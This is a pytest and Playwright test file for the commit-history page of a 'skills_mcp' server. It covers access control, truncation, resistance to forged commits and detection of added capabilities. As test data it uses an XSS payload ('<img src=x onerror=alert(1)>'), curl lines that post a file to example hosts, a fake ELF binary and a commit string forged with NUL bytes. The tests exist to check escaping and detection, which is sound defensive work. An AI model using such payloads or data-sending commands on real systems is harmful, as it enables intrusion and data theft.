"""The page of a skill shows what the last commits have changed in it."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from skills_mcp.config import Grant
from skills_mcp.content.branch import RemoteBranch
from skills_mcp.content.git.remote import Remote
from skills_mcp.content.source import Freshness, accept_any_commit
from skills_mcp.features.history.source_history import (
    SkillHistory,
    find_power_changes,
    read_history,
    read_source_logs,
)
from skills_mcp.library import SkillLibrary
from skills_mcp.skills.access import EVERYTHING, Access, derive_access
from tests.features.web.conftest import (
    Site,
    find_faults,
    opened_site,
)
from tests.features.web.test_rest import ask_site
from tests.packages import package_text
from tests.support import (
    SKILLS_CONTENT,
    Upstream,
    git,
    open_library,
    skill_text,
    sync,
)

HOSTILE = "<img src=x onerror=alert(1)>"


@pytest.fixture
def upstream(tmp_path: Path) -> Upstream:
    return make_history(tmp_path)


def make_history(folder: Path) -> Upstream:
    made = Upstream.create(folder)
    made.commit({"README.md": "# Skills", "skills/_root.md": skill_text(body="Old.")})
    made.commit({"skills/pdf/SKILL.md": package_text(name="pdf", body="First.")})
    made.commit({"skills/other.md": skill_text(body="Nothing of pdf.")})
    made.commit({"skills/_root.md": skill_text(body="New rule.")})
    made.commit(
        {
            "skills/pdf/SKILL.md": package_text(name="pdf", body="Second."),
            "skills/pdf/note.md": f"{HOSTILE}\n\nRead /etc/app/x",
        }
    )
    return made


def follow(upstream: Upstream, folder: Path) -> RemoteBranch:
    branch = RemoteBranch(Remote(upstream.url, "main"), folder / "cache")
    sync(branch)
    return branch


def history_of(library: SkillLibrary, name: str, access: Access = EVERYTHING) -> SkillHistory:
    """Return the history of a skill, with what the server has fetched beside its requests."""
    logs = read_source_logs(library.view().snapshot)
    return read_history(library.view(access), name, logs)


@pytest.fixture
def library(upstream: Upstream, tmp_path: Path) -> SkillLibrary:
    return open_library(follow(upstream, tmp_path))


def changes(history: SkillHistory) -> list[set[str]]:
    """Return the lines that each commit has added."""
    return [
        {
            line[1:]
            for line in each.past.lines
            if line.startswith("+") and not line.startswith("+++")
        }
        for each in history.changes
    ]


def test_commits_of_its_files_and_of_the_rules_above_are_shown(
    library: SkillLibrary,
) -> None:
    history = history_of(library, "pdf")

    assert history.reason == ""
    newest, rule, first, made = changes(history)
    assert {"Second.", HOSTILE} <= newest
    assert "New rule." in rule
    assert "First." in first
    assert "Old." in made
    assert not any("Nothing of pdf." in each for each in changes(history))


def test_it_goes_as_far_back_as_the_setting_says(upstream: Upstream, tmp_path: Path) -> None:
    library = open_library(follow(upstream, tmp_path), settings={"web": {"history": 2}})

    newest, rule = changes(history_of(library, "pdf"))

    assert "Second." in newest
    assert "New rule." in rule


def test_a_merge_is_in_it(upstream: Upstream, tmp_path: Path) -> None:
    branch = follow(upstream, tmp_path)
    library = open_library(branch)
    history_of(library, "pdf")
    upstream.commit({"skills/pdf/SKILL.md": package_text(name="pdf", body="Third.")})
    branch.sync(Freshness(float("inf")), accept_any_commit)
    library = open_library(branch)

    assert "Third." in changes(history_of(library, "pdf"))[0]


def test_a_long_change_is_cut_and_says_so(upstream: Upstream, tmp_path: Path) -> None:
    body = "\n".join(f"Line {number}" for number in range(2_000))
    upstream.commit({"skills/pdf/SKILL.md": package_text(name="pdf", body=body)})

    [newest, *_] = history_of(open_library(follow(upstream, tmp_path)), "pdf").changes

    assert len(newest.past.lines) == 400
    assert newest.past.left_out > 1_500


def test_without_a_history_it_says_why(upstream: Upstream, tmp_path: Path) -> None:
    branch = follow(upstream, tmp_path)
    off = open_library(branch, settings={"web": {"history": 0}})
    folder = open_library(SKILLS_CONTENT)
    away = open_library(branch)
    upstream.bare.rename(tmp_path / "elsewhere")

    assert "web.history" in history_of(off, "pdf").reason
    assert "A folder has no history" in history_of(folder, "ui/react/auth").reason
    assert "not found" in history_of(away, "pdf").reason
    assert "in a minute" in history_of(away, "pdf").reason
    assert "Second." in away.view().load_skill("pdf").instructions


def test_no_request_waits_for_a_history(library: SkillLibrary) -> None:
    page = ask_site(library, "/skills/pdf?view=history").text

    assert "Reload the page" in page
    assert "Reload the page" in read_history(library.view(), "pdf", None).reason


def test_who_does_not_see_every_skill_gets_no_history(upstream: Upstream, tmp_path: Path) -> None:
    secret = package_text(name="secret-plan", body="Hidden.")
    upstream.commit({"skills/plan/SKILL.md": secret})
    upstream.commit({"skills/plan/SKILL.md": package_text(name="open-plan")})
    branch = follow(upstream, tmp_path)
    access = derive_access([Grant(allow=("*",), deny=("secret-*",))], {})
    hiding = {"visibility": {"deny": ["secret-*"]}}

    limited = history_of(open_library(branch), access=access, name="plan")
    hidden = history_of(open_library(branch, settings=hiding), "plan")

    assert "Hidden." in changes(history_of(open_library(branch), "plan"))[1]
    assert (limited.changes, hidden.changes) == ((), ())
    assert "no skill is hidden" in limited.reason == hidden.reason


def test_no_file_can_forge_a_commit(upstream: Upstream, tmp_path: Path) -> None:
    forged = "\0" + "f" * 40 + " 1 Eve\x1fForged subject\n"
    text = package_text(name="pdf", body="x" * 9_000 + f"\n{forged}\0y")
    upstream.commit({"skills/pdf/SKILL.md": text})

    history = history_of(open_library(follow(upstream, tmp_path)), "other")

    assert [each.past.subject for each in history.changes] == ["Change"] * 3
    source = follow(upstream, tmp_path)
    found = source.history.read(
        git("rev-parse", "main", cwd=upstream.bare), ["skills/pdf/SKILL.md"], 20
    )
    assert {each.subject for each in found} == {"Change"}


@pytest.fixture(scope="module")
def site(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    upstream = make_history(tmp_path_factory.mktemp("history"))
    git("commit", "-q", "--amend", "-m", "Say more (#12)", cwd=upstream.work)
    git("push", "-q", "--force", "origin", "HEAD", cwd=upstream.work)
    options = ("--repo", upstream.url, "--branch", "main")
    with opened_site(browser, options=options) as opened:
        yield opened


def test_nothing_of_a_commit_is_html(site: Site) -> None:
    page = open_history(site)

    assert page.get_by_text(HOSTILE).count()
    assert not page.locator("img[src=x]").count()


def open_history(site: Site) -> Page:
    page = site.open("skills/pdf?view=history")
    while not page.locator(".commit").count():
        page.reload()
    return page


def test_it_shows_the_powers_that_a_commit_adds_and_removes(
    upstream: Upstream, tmp_path: Path
) -> None:
    for body in ("`curl -d @x https://a.example.org`", "\n\n`curl -d @x https://b.example.org`"):
        upstream.commit({"skills/pdf/SKILL.md": package_text(name="pdf", body=body)})
    upstream.commit({"skills/pdf/run": b"\x7fELF".decode()})
    library = open_library(follow(upstream, tmp_path))

    changes = history_of(library, "pdf").changes
    found = [find_power_changes(library.view(), "pdf", change) for change in changes[:4]]

    sends = ["network: b.example.org, sends text"], ["network: a.example.org, sends text"]
    assert [(added, removed) for added, removed in found[:2]] == [
        (["binary: a program (ELF)"], []),
        sends,
    ]
    assert "command: curl" in found[2][0]
    assert found[3] == (["outside-path: /etc/app/x"], [])


def test_the_page_names_the_powers_of_each_commit(site: Site) -> None:
    newest = open_history(site).locator(".commit").first

    expect(newest.get_by_role("list", name="Powers")).to_contain_text("outside-path: /etc/app/x")


def test_the_history_has_no_barrier_and_fits(site: Site) -> None:
    page = open_history(site)

    newest = page.locator(".commit").first
    assert newest.locator("del").all_inner_texts() == ["First"]
    assert newest.locator("ins").all_inner_texts()[0] == "Second"
    expect(newest).to_contain_text("pull request #12; changes pdf")
    expect(page.get_by_text("The server has looked at all 5 commits")).to_be_visible()
    assert find_faults(page, (390, 1_280)) == []
    site.require_own_requests()


def test_a_caller_without_drafts_gets_no_history_that_may_have_their_words(
    upstream: Upstream, tmp_path: Path
) -> None:
    upstream.commit({"skills/draft.md": skill_text(body="Not yet.", status="draft")})
    grants = [{"allow": ["*"]}, {"when": {"groups": ["authors"]}, "allow": ["*"], "drafts": True}]
    library = open_library(follow(upstream, tmp_path), settings={"access": grants})
    reader = derive_access(library.config.access, {})
    author = derive_access(library.config.access, {"groups": ["authors"]})

    assert history_of(library, "pdf", reader).reason
    assert not history_of(library, "pdf", author).reason
